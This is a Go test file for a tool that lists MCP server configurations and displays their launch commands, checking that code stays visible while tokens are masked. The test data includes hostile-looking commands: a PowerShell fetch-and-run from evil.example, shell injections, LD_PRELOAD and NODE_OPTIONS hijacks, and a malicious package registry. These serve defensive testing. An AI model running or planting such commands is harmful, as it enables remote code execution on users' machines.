package clients

import (
	"strings"
	"testing"
)

// TestDisplayHidesNoCode: what is run is shown, however much it looks like a secret.
func TestDisplayHidesNoCode(t *testing.T) {
	long := strings.Repeat("a", 120)
	tests := []struct {
		command string
		args    []string
		want    string // is shown
	}{
		{"sh", []string{"-c", "touch /tmp/pwn; npx x # ://"}, `sh -c "touch /tmp/pwn; npx x # ://"`},
		{"/bin/bash", []string{"-lc", "token=1; touch /tmp/pwn"}, `"token=1; touch /tmp/pwn"`},
		{"cmd.exe", []string{"/c", "calc & rem password: x"}, `"calc & rem password: x"`},
		{"python3.12", []string{"-c", "import os # api_key: ://"}, "import os # api_key"},
		{"python3", []string{"-cimport os # ://"}, "import os"},
		{"node", []string{"--eval=require('fs') // ://"}, "require('fs')"},
		{"node", []string{"--require", "./x.js", "-e", "a() // token: x"}, "a() // token"},
		{"docker", []string{"run", "img", "sh", "-c", "a=1; evil ://"}, "a=1; evil ://"},
		{"pwsh", []string{"-Command", "iex (iwr https://evil.example/x)"}, "https://evil.example/x"},
		{"npx", []string{"-c", "evil # ://"}, "evil # ://"},
		{"c", []string{"--token", "/tmp/evil.js"}, "--token /tmp/evil.js"},
		{"node", []string{"/home/me/auth dir: x/evil.js"}, "/home/me/auth dir: x/evil.js"},
		{"npx", []string{"-y", "mcp-server-with-quite-a-long-package-name"}, "mcp-server-with-quite-a-long-package-name"},
		{"npx", []string{"-y", "eyJ-evil"}, "eyJ-evil"},
		{"sh", []string{"-c", "eyJevil"}, "sh -c eyJevil"},
		{"cmd", []string{"/c", "echo", "& evil ://"}, "& evil ://"},
		{"npx", []string{"--auth", "evil@1.0.0"}, "evil@1.0.0"},
		{"npx", []string{"--auth", "@evil/x"}, "@evil/x"},
		{"uvx", []string{"--from", "git+https://u:p@evil.example/a/b", "x"}, "git+https://evil.example/a/b (and ***)"},
		{"sh", []string{"-c", long + "; touch /tmp/pwn"}, "; touch /tmp/pwn"},
		{"sh", []string{"-c", strings.Repeat("b", 500) + "; touch /tmp/pwn"}, `b"… (16 more bytes)`},
		{"env", []string{"LD_PRELOAD=/tmp/x.so", "c"}, "LD_PRELOAD=/tmp/x.so"},
		{"docker", []string{"run", "-e", "NODE_OPTIONS=--require=/x.js", "img"}, "NODE_OPTIONS=--require=/x.js"},
	}
	for _, tt := range tests {
		got := Server{Command: tt.command, Args: tt.args}.Display()
		if !strings.Contains(got, tt.want) {
			t.Errorf("%s %q: got  %s\nwant %s in it", tt.command, tt.args, got, tt.want)
		}
	}
}

// TestDisplayHidesSecrets: also where an interpreter is near.
func TestDisplayHidesSecrets(t *testing.T) {
	for _, s := range []Server{
		{Command: "npx", Args: []string{"mcp-remote", "https://h.example/mcp", "--header", "Authorization: Bearer " + secret}},
		{Command: "node", Args: []string{"server.js", "--token", secret}},
		{Command: "cmd", Args: []string{"/c", "npx", "mcp-remote", "--header", "Authorization: Bearer " + secret}},
		{Command: "node", Args: []string{"server.js", "-k", "sk-" + secret}},
		{Command: "node", Args: []string{"server.js", "-e", "TOKEN=" + secret}},
		{Command: "docker", Args: []string{"run", "-e", "A=" + secret + " x", "img"}},
		{Command: "python", Args: []string{"-m", "server", "--dsn=postgres://me:" + secret + "@db"}},
		{Command: "uvx", Args: []string{"--from", "git+https://" + secret + "@h.example/a", "x"}},
		{Command: "env", Args: []string{"npm_config_registry=https://me:" + secret + "@r.example/", "npx", "x"}},
		{Command: "c", Env: map[string]string{"API_KEY": secret, "K": secret}},
		{Command: "c", Env: map[string]string{
			"HTTPS_PROXY": "http://me:" + secret + "@proxy.example:80", "npm_config__authToken": secret,
			"UV_INDEX_URL": "https://r.example/?t=" + secret, "PIP_EXTRA_INDEX_URL": "https://a.example https://me:" + secret + "@b.example",
		}},
	} {
		if got := s.Display(); strings.Contains(got, secret) {
			t.Errorf("got %s", got)
		}
	}
}

func TestDisplayEnv(t *testing.T) {
	tests := []struct {
		env  map[string]string
		want string
	}{
		{nil, "c"},
		{map[string]string{"API_KEY": "x", "LD_PRELOAD": "/tmp/x.so"}, "c [with LD_PRELOAD=/tmp/x.so API_KEY]"},
		{map[string]string{"NODE_OPTIONS": "--require /tmp/token.js", "Path": "/evil"}, `c [with NODE_OPTIONS="--require /tmp/token.js" Path=/evil]`},
		{map[string]string{"PYTHONPATH": "/evil", "npm_config_registry": "https://evil.example/r"}, "c [with PYTHONPATH=/evil npm_config_registry=https://evil.example/r]"},
		{map[string]string{"HTTPS_PROXY": "http://me:" + secret + "@p.example:80"}, `c [with HTTPS_PROXY="http://p.example:80 (and ***)"]`},
		{map[string]string{strings.Repeat("N", 120): "x"}, `c [with "` + strings.Repeat("N", 100) + `"… (20 more bytes)]`},
		{map[string]string{"A B\x1b[2J": "x"}, `c [with "A B\x1b[2J"]`},
	}
	for _, tt := range tests {
		if got := (Server{Command: "c", Env: tt.env}).Display(); got != tt.want {
			t.Errorf("got  %s\nwant %s", got, tt.want)
		}
	}
	many := map[string]string{"LD_AUDIT": "/tmp/x.so"}
	for i := range 80 {
		many["A"+strings.Repeat("A", i)] = ""
	}
	if got := (Server{Command: "c", Env: many}).Display(); !strings.Contains(got, "[with LD_AUDIT=/tmp/x.so ") || !strings.HasSuffix(got, "… (31 more)]") {
		t.Errorf("got %s", got)
	}
}

func TestOrigin(t *testing.T) {
	s := Server{Scope: "project", File: "/p/\x1b[2J/.mcp.json", Line: 3}
	if got := s.Origin(); !strings.HasPrefix(got, "project, /p/") || !strings.HasSuffix(got, "/.mcp.json:3") || strings.Contains(got, "\x1b") {
		t.Errorf("got %q", got)
	}
}

// TestKnownAs: servers of one name that are two have two names, and no name reads
// as that of another server.
func TestKnownAs(t *testing.T) {
	d := newDesk(t)
	d.write("home/.claude.json", `{"mcpServers": {"db": {"command": "c"}}, "projects": {
		"/a": {"mcpServers": {"db": {"command": "c"}}}, "/b": {"mcpServers": {"db": {"url": "https://h.example"}}}}}`)
	for _, file := range []string{"home/.codeium/windsurf/mcp_config.json", "home/.codeium/mcp_config.json"} {
		d.write(file, `{"mcpServers": {"db": {"command": "c"}}}`)
	}
	for _, file := range []string{"mcp.json", "profiles/one/mcp.json", "profiles/two/mcp.json"} {
		d.write("home/.config/Code/User/"+file, `{"servers": {"db": {"command": "c"}}}`)
	}
	servers, _ := d.find("linux")
	seen := map[string]bool{}
	for _, s := range servers {
		seen[s.Client+" "+s.KnownAs()] = true
	}
	if len(servers) != 8 || len(seen) != 8 {
		t.Errorf("got %d names of %d servers, want 8: %v", len(seen), len(servers), seen)
	}
	crafted := Server{Name: "db in /home/me/x, user", Scope: "project", File: "/p"}
	if got, want := crafted.KnownAs(), `"db in /home/me/x, user" in /p, project`; got != want {
		t.Errorf("got %s, want %s", got, want)
	}
	one := Server{Name: "db", Scope: "user", File: "/f", Command: "c"}
	other := one
	other.Command, other.Line = "d", 9
	if one.KnownAs() != other.KnownAs() || one.Identity() == other.Identity() {
		t.Error("the command is part of the name, or not of the identity")
	}
}

// FuzzDisplay: whatever stands in a configuration, what is shown is one bounded line,
// and a shell's code is in it.
func FuzzDisplay(f *testing.F) {
	f.Add("npx", "--token", "x y", "NODE_OPTIONS", "http://u:p@h/")
	f.Add("cmd", "/c", "a\x00\u202e& b", "", "\xff")
	f.Fuzz(func(t *testing.T, command, a, b, name, value string) {
		s := Server{Command: command, Args: []string{a, b}, Env: map[string]string{name: value}}
		got := s.Display()
		if command != "" && strings.ContainsFunc(got, func(r rune) bool { return r < ' ' || r == 0x7f || r == '\u202e' }) {
			t.Errorf("got %q", got)
		}
		if len(got) > 6*(4*maxShown+maxShownName)+200 {
			t.Errorf("got %d bytes", len(got))
		}
		if code := (Server{Command: "sh", Args: []string{"-c", b}}).Display(); !strings.Contains(code, quoteWord(b)) {
			t.Errorf("%q is shown as %s", b, code)
		}
	})
}
